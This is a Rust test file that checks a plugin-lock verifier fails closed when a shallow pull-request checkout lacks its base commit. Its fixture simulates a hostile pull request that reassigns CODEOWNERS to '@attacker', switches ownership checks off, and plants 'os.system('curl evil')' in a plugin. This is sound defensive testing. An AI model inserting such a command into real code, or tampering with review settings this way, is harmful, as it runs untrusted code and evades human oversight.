//! Issue #16, bypass 5: a pull request checked out shallow (actions/checkout's default
//! depth) has no base commit; ownership must then not come from the pull request's own
//! tree. In a pull request an absent base is an error no `severity:` can lower.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::util::*;

/// The origin: a base that requires `@security` for the lock, and a pull request head
/// that hands the lock to `@attacker`, switches both ownership checks off and tampers
/// with the plugin (relocked). Returns (origin, base sha, head sha).
fn hostile_pull_request() -> (Repo, String, String) {
    let repo = Repo::new();
    repo.write(
        ".github/CODEOWNERS",
        "* @fixture/owners\n/plugins/PLUGINS.lock @security\n/.plugin-lock.yml @security\n",
    )
    .write(".plugin-lock.yml", "owners:\n  required: [\"@security\"]\n")
    .write("plugins/a/plugin.yaml", "name: a\nversion: 1.0.0\n")
    .write("plugins/a/main.py", "print('a')\n");
    repo.update_lock();
    let base = repo.commit("base");
    repo.write(".github/CODEOWNERS", "* @attacker\n")
        .write(
            ".plugin-lock.yml",
            "owners:\n  required: [\"@security\"]\nseverity:\n  lock_not_owned: off\n  lock_ownership_changed: off\n",
        )
        .write("plugins/a/main.py", "import os; os.system('curl evil')\n");
    repo.update_lock();
    let head = repo.commit("the pull request");
    (repo, base, head)
}

/// `git clone --depth 1` of the origin: the base commit is not in it.
fn shallow_clone(origin: &Repo, into: &Path) -> PathBuf {
    let url = format!("file://{}", origin.path().display());
    git_in(into, &["clone", "-q", "--depth", "1", &url, "clone"]);
    let clone = into.join("clone");
    assert_eq!(git_in(&clone, &["rev-list", "--count", "HEAD"]), "1");
    clone
}

/// A pull request's event (`pull_request.base.sha`).
fn pull_request_event(base: &str, head: &str) -> Value {
    serde_json::json!({
        "pull_request": {"number": 7, "base": {"sha": base}, "head": {"sha": head}}
    })
}

/// A merge queue's event: `merge_group.base_sha` / `head_sha`, no `pull_request`.
fn merge_group_event(base: &str, head: &str) -> Value {
    serde_json::json!({
        "merge_group": {"base_sha": base, "head_sha": head, "head_ref": "refs/heads/gh-readonly-queue/main/pr-7-x", "base_ref": "refs/heads/main"}
    })
}

fn event_file(dir: &Path, event: &Value) -> PathBuf {
    let path = dir.join("event.json");
    std::fs::write(&path, event.to_string()).expect("write event");
    path
}

fn base_unavailable(doc: &Value) -> Vec<&Value> {
    doc["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["kind"] == "base_unavailable")
        .collect()
}

/// The hostile change, checked out shallow under the event `event(base, head)`: every
/// run fails on an error `base_unavailable` that says how to fetch the base, cold, with
/// the cache warm (asked for: Actions turns it off), with `--base`, and in the github
/// format.
fn shallow_change_fails_closed(event: fn(&str, &str) -> Value) {
    let (origin, base, head) = hostile_pull_request();
    let dir = tempfile::tempdir().expect("temp dir");
    let clone = shallow_clone(&origin, dir.path());
    let event = event_file(dir.path(), &event(&base, &head));
    let runner_temp = tempfile::tempdir().expect("temp dir");
    let env = [
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_EVENT_PATH", &*event.to_string_lossy()),
        ("RUNNER_TEMP", &*runner_temp.path().to_string_lossy()),
    ];
    for args in [
        &["verify", "--format", "json"][..],
        &["verify", "--format", "json", "--cache"],
        &["verify", "--format", "json", "--cache"],
        &["verify", "--format", "json", "--base", &base],
    ] {
        let out = run_env(&clone, args, &env);
        assert_eq!(code(&out), 4, "{args:?}: {}{}", stdout(&out), stderr(&out));
        let doc = json(&out);
        let found = base_unavailable(&doc);
        assert_eq!(found.len(), 1, "{doc:#}");
        assert_eq!(found[0]["severity"], "error", "{doc:#}");
        let text = found[0].to_string();
        assert!(text.contains("fetch-depth: 0"), "{text}");
        assert!(
            text.contains(&format!("git fetch --no-tags --depth=1 origin {base}")),
            "{text}"
        );
    }
    // The github format (the action's) fails too.
    let out = run_env(&clone, &["verify"], &env);
    assert_eq!(code(&out), 4, "{}{}", stdout(&out), stderr(&out));
    assert!(stdout(&out).contains("::error"), "{}", stdout(&out));
}

#[test]
fn a_shallow_pull_request_without_its_base_fails_closed() {
    shallow_change_fails_closed(pull_request_event);
}

#[test]
fn a_shallow_merge_group_without_its_base_fails_closed() {
    shallow_change_fails_closed(merge_group_event);
}

#[test]
fn a_pull_request_config_cannot_lower_base_unavailable() {
    let (origin, base, head) = hostile_pull_request();
    // The head's configuration tries to switch the finding itself off.
    origin.write(
        ".plugin-lock.yml",
        "owners:\n  required: [\"@security\"]\nseverity:\n  lock_not_owned: off\n  lock_ownership_changed: off\n  base_unavailable: off\n",
    );
    let head2 = origin.commit("and base_unavailable off");
    let dir = tempfile::tempdir().expect("temp dir");
    let clone = shallow_clone(&origin, dir.path());
    let event = event_file(dir.path(), &pull_request_event(&base, &head2));
    let env = [
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_EVENT_PATH", &*event.to_string_lossy()),
    ];
    let out = run_env(&clone, &["verify", "--format", "json"], &env);
    assert_eq!(code(&out), 4, "{}{}", stdout(&out), stderr(&out));
    let doc = json(&out);
    assert_eq!(base_unavailable(&doc).len(), 1, "{doc:#}");
    assert_ne!(head, head2);
}

#[test]
fn outside_a_pull_request_an_absent_base_stays_a_warning() {
    let (origin, base, _) = hostile_pull_request();
    let dir = tempfile::tempdir().expect("temp dir");
    let clone = shallow_clone(&origin, dir.path());
    for env in [&[][..], &[("GITHUB_ACTIONS", "true")]] {
        let out = run_env(
            &clone,
            &["verify", "--format", "json", "--base", &base],
            env,
        );
        assert_eq!(code(&out), 0, "{}{}", stdout(&out), stderr(&out));
        let doc = json(&out);
        let found = base_unavailable(&doc);
        assert_eq!(found.len(), 1, "{doc:#}");
        assert_eq!(found[0]["severity"], "warning", "{doc:#}");
    }
}
